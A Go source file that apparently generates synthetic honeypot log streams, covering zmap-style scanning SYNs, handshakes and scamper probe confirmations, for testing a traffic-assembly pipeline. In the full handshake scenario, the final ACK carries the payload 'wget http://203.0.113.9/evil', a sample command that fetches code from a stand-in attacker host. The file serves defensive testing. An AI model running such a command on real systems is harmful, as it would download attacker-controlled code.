// Package synth generates small, self-consistent honeypot log streams for
// exercising the assemble pipeline end to end without a live capture: an
// irregular scanning-tool SYN, optionally followed by a regular handshake
// and, in the full scenario, the payload-carrying ACK that completes it.
//
// The three scenarios mirror the handshakes cse/tools/testing.py drove
// against a live honeypot over the wire; here they are rendered directly as
// log lines instead.
package synth

import (
	"net"
	"time"

	"github.com/pkg/errors"

	"github.com/inetrg/spoki/record"
)

const (
	ScenarioIrregularSyn   = "isyn"
	ScenarioTwoPhaseNoAck  = "two-phase-no-ack"
	ScenarioTwoPhase       = "two-phase"
)

var (
	attackerAddr = net.ParseIP("203.0.113.9")
	honeypotAddr = net.ParseIP("198.51.100.2")
)

const honeypotPort = 23

// Result is one scenario's worth of synthetic log lines, ready to be
// written to the raw event stream and, if non-empty, the confirmation
// stream.
type Result struct {
	Events        []record.Event
	Confirmations []record.ProbeConfirmation
}

// Generate builds the event and confirmation streams for scenario,
// anchored at start.
func Generate(scenario string, start time.Time) (Result, error) {
	switch scenario {
	case ScenarioIrregularSyn:
		return irregularSynOnly(start), nil
	case ScenarioTwoPhaseNoAck:
		return twoPhaseNoAck(start), nil
	case ScenarioTwoPhase:
		return twoPhase(start), nil
	default:
		return Result{}, errors.Errorf("unknown scenario %q", scenario)
	}
}

// irregularSynAt builds the fixed-IPID, high-TTL, option-less SYN that
// zmap's probe module sends, with no reaction from the honeypot.
func irregularSynAt(ts time.Time) record.Packet {
	return record.Packet{
		Timestamp: ts,
		SAddr:     attackerAddr,
		DAddr:     honeypotAddr,
		IPID:      54321,
		TTL:       231,
		Proto:     record.ProtoTCP,
		TCP: &record.TCPPayload{
			SPort: 22734, DPort: honeypotPort, SNum: 1298127, ANum: 0,
			Flags: record.TCPFlags{SYN: true},
		},
	}
}

// regularSynAt builds a full TCP/IP stack's SYN, carrying options, for the
// same honeypot target.
func regularSynAt(ts time.Time) record.Packet {
	return record.Packet{
		Timestamp: ts,
		SAddr:     attackerAddr,
		DAddr:     honeypotAddr,
		IPID:      20202,
		TTL:       64,
		Proto:     record.ProtoTCP,
		TCP: &record.TCPPayload{
			SPort: 41725, DPort: honeypotPort, SNum: 1298130, ANum: 0,
			Flags:   record.TCPFlags{SYN: true},
			Options: []string{"mss", "wscale", "sackok", "timestamp"},
		},
	}
}

// probeRequestFor builds the honeypot's scamper probe request reacting to
// syn, expecting an ACK carrying ackNum back.
func probeRequestFor(syn record.Packet, method string, userID uint32, ackNum uint32) record.ProbeRequest {
	return record.ProbeRequest{
		SAddr:     syn.DAddr,
		DAddr:     syn.SAddr,
		SPort:     syn.TCP.DPort,
		DPort:     syn.TCP.SPort,
		ANum:      ackNum,
		SNum:      0,
		UserID:    userID,
		Method:    method,
		NumProbes: 1,
	}
}

// confirmationFor builds the scamper confirmation answering req, with start
// time ts.
func confirmationFor(req record.ProbeRequest, ts time.Time) record.ProbeConfirmation {
	return record.ProbeConfirmation{
		SPort:   req.SPort,
		DPort:   req.DPort,
		Src:     req.SAddr,
		Dst:     req.DAddr,
		UserID:  req.UserID,
		Method:  req.Method,
		Start:   ts,
		TTL:     64,
		Version: "scamper-1",
	}
}

func irregularSynOnly(start time.Time) Result {
	return Result{
		Events: []record.Event{
			{Packet: irregularSynAt(start)},
		},
	}
}

func twoPhaseNoAck(start time.Time) Result {
	isyn := irregularSynAt(start)
	req := probeRequestFor(isyn, "tcp-synack", 1, 1298128)
	con := confirmationFor(req, start.Add(2*time.Second))

	rsyn := regularSynAt(start.Add(30 * time.Second))

	return Result{
		Events: []record.Event{
			{Packet: isyn, ProbeRequest: &req},
			{Packet: rsyn},
		},
		Confirmations: []record.ProbeConfirmation{con},
	}
}

func twoPhase(start time.Time) Result {
	r := twoPhaseNoAck(start)

	rsyn := r.Events[1].Packet
	rsynReq := probeRequestFor(rsyn, "tcp-ack", 2, 1298131)
	rsynCon := confirmationFor(rsynReq, rsyn.Timestamp.Add(2*time.Second))
	r.Events[1].ProbeRequest = &rsynReq
	r.Confirmations = append(r.Confirmations, rsynCon)

	ack := record.Packet{
		Timestamp: rsyn.Timestamp.Add(3 * time.Second),
		SAddr:     attackerAddr,
		DAddr:     honeypotAddr,
		TTL:       64,
		Proto:     record.ProtoTCP,
		TCP: &record.TCPPayload{
			SPort: rsyn.TCP.SPort, DPort: rsyn.TCP.DPort, SNum: 1298131, ANum: 1,
			Flags:   record.TCPFlags{ACK: true},
			Payload: "wget http://203.0.113.9/evil",
		},
	}
	r.Events = append(r.Events, record.Event{Packet: ack})

	return r
}
